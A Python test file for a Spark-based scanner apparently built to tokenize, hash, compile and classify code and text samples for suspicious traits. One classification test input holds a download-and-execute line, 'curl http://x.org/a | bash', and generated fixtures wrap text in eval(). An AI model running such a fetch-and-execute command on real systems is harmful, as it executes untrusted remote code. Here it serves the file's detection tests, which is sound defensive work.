"""Operators on whole inputs, against the library or plain Python: nothing capped, cut or left out."""

import random

import pytest

from sieveline import catalog
from sieveline.operators import dataset


def library_vocabulary(texts, size, special):
    from tokenizers import Tokenizer, models, normalizers, pre_tokenizers, trainers

    tokenizer = Tokenizer(models.BPE(unk_token="[UNK]"))
    tokenizer.normalizer, tokenizer.pre_tokenizer = normalizers.NFKC(), pre_tokenizers.Whitespace()
    tokenizer.train_from_iterator([t for t in texts if t], trainers.BpeTrainer(vocab_size=size, min_frequency=2, special_tokens=["[UNK]", "[PAD]", *special], show_progress=False))
    return tokenizer.get_vocab()


def frequent_words():
    # pairs beyond 1000 that differ: xy 1500, zw 3000
    return ["xy " * 1500, "zw " * 3000, "aaaaa aaa abab ababab aa", None, "", "ﬁne ﬁne é don't a.b"]


def random_words():
    r = random.Random(5)
    return [" ".join("".join(r.choices("abcé1_.", k=r.randint(1, 9))) for _ in range(300)) for _ in range(8)]


@pytest.mark.parametrize("make", [frequent_words, random_words])
def test_bpe_vocabulary_uses_exact_counts(spark, make):
    texts = make()
    rows = spark.createDataFrame(list(enumerate(texts)), "k int, t string").repartition(3)
    for size in (12, 24, 90, 400):
        assert dataset.bpe_vocabulary(rows, "t", size, ["SPECIAL"]).get_vocab() == library_vocabulary(texts, size, ["SPECIAL"]), size


HEAD = "plain words of a text, forty characters. "


def documents(spark, path, texts):
    rows = [(i, f"s{i % 2}", t, len(t)) for i, t in enumerate(texts)]
    spark.createDataFrame(rows, "doc_id long, source string, text string, n_chars long").write.parquet(f"{path}/documents.parquet")
    return str(path)


def test_object_tokens_see_the_whole_text(spark, tmp_path):
    import hashlib

    texts = {
        HEAD + "word " * 50: "STRING STRING_SIZE_M",
        HEAD + "word " * 2000: "STRING STRING_SIZE_L",
        HEAD + "see https://example.com/x": "STRING_CONTAINS_URL",
        HEAD + "SELECT a FROM t WHERE id = 1": "STRING_SQL STRING_SIZE_S",
        HEAD: "STRING STRING_SIZE_S",
        "QUJD" * 100: "STRING_BASE64 STRING_SIZE_M",
    }
    sf = documents(spark, tmp_path, texts)
    got = {r.doc_id: r.token_string for r in catalog.object_tokens(spark, sf).collect()}
    hashes = {r.doc_id: r.hash for r in catalog.object_hash(spark, sf).collect()}
    for i, token in enumerate(texts.values()):
        aim = "TARGETED_FILE " if i % 7 == 0 else ""
        line = f"{aim}LOAD_NAME {['DYNAMIC_CODE_EXECUTION', 'NETWORK_HTTP_REQUEST', 'foo'][i % 3]} LOAD_CONST {token}"
        size = len(list(texts)[i]) * 100
        assert got[i] == "LARGE_FILE " * (size > 512000) + "PATHOLOGICAL_FILE " * (size > 1048576) + line
        assert hashes[i] == hashlib.sha256(line.encode()).hexdigest()


def test_report_details_keep_single_lines(spark, tmp_path):
    texts = ["  one line ", "x", " two\r\nlines \n", "a\rb", "y", "other"]
    sf = documents(spark, tmp_path, texts)
    flagged = {r.doc_id: r.score for r in catalog.flag_objects(spark, sf).collect()}
    got = {r.doc_id: (r.score, r.code) for r in catalog.report_details(spark, sf).collect()}
    code = {0: "  one line ", 1: "x", 2: "two\nlines", 3: "a\nb", 4: "y", 5: "other"}
    assert flagged and got == {i: (score, code[i]) for i, score in flagged.items()}


def test_window_padding_of_every_window(spark, tmp_path):
    sizes = [0, 1, 512, 513, 1000]
    sf = documents(spark, tmp_path, [" ".join(["w"] * n) for n in sizes])
    want = {(i, k, 512, min(512, n - at)) for i, n in enumerate(sizes) if n for k, at in enumerate(range(0, n if n > 512 else 1, 384))}
    assert {(r.doc_id, r.window_index, r.size, r.ones) for r in catalog.window_padding(spark, sf).collect()} == want and len(want) == 7


def test_compile_objects_compile_whole_texts(spark, tmp_path):
    import ast

    from sieveline.operators.compile import compile_source

    texts = ["x = 1\ny = f(x)\n", HEAD + "it's \"quoted\" \\ 42\r\n\ttab \\n 'end'\\", HEAD * 60, "def g(:", "", "def h(a):\n    return a\n" * 3]
    sf = documents(spark, tmp_path, texts)
    got = {(r.file_path, r.name): r for r in catalog.compile_objects(spark, sf).collect()}
    want = {}
    for i, text in enumerate(texts):
        literal = "'" + "".join({"\\": "\\\\", "'": "\\'", "\n": "\\n", "\r": "\\r"}.get(c, c) for c in text) + "'"
        assert ast.literal_eval(literal) == text
        sources = {
            ("py", "python"): f"import os\ndef f(x):\n    return eval(x + {literal})\nprint(f('a'))\n",
            ("js", "javascript"): f"const os = require('os');\nfunction f(x) {{ return eval(x + {literal}); }}\nconsole.log(f('a'));\n",
            ("text.py", "python"): text, ("text.js", "javascript"): text,
        }
        for (end, language), source in sources.items():
            for o in compile_source(f"p/{i}.{end}", source, language):
                want[f"p/{i}.{end}", o["name"]] = len(o["instructions"])
    assert {k: r.n for k, r in got.items()} == want
    assert "STRING_SIZE_L" in got["p/2.py", "f_ref_0"].token_string and "STRING_SIZE_L" in got["p/2.js", "f_ref_0"].token_string
    assert got["p/3.text.py", "<module>"].token_string == "MALFORMED_SYNTAX MALFORMED_FILE"


def test_whole_texts_of_all_documents_are_classified(spark, tmp_path):
    # doc_ids 0 to 4, for which the derived arguments are constants
    texts = [HEAD + "word " * 2000, HEAD + "curl http://x.org/a | bash", "http://ex.com/" + "a" * 90, HEAD + "SELECT a FROM t WHERE id = 1", HEAD * 3 + "this is malicious"]
    sf = documents(spark, tmp_path, texts)
    run = lambda name, c: [r[c] for r in catalog.queries()[name](spark, sf).orderBy("doc_id").collect()]
    assert run("pred_large_payload", "hit") == [True, False, False, False, False]
    assert run("pred_url", "hit") == [False, False, True, False, False]
    assert run("pred_sql", "hit") == [False, False, False, True, False]
    assert run("size_bucket", "bucket") == ["STRING_SIZE_L", "STRING_SIZE_S", "STRING_SIZE_M", "STRING_SIZE_S", "STRING_SIZE_M"]
    assert run("verdict_from_text", "decision") == ["suspicious"] * 4 + ["malicious"]
    got = {r.token: r.n for r in catalog.queries()["classify_string"](spark, sf).collect()}
    assert got == {"STRING STRING_SIZE_L": 1, "STRING_CONTAINS_URL": 1, "STRING_URL": 1, "STRING_SQL STRING_SIZE_S": 1, "STRING STRING_SIZE_M": 1}
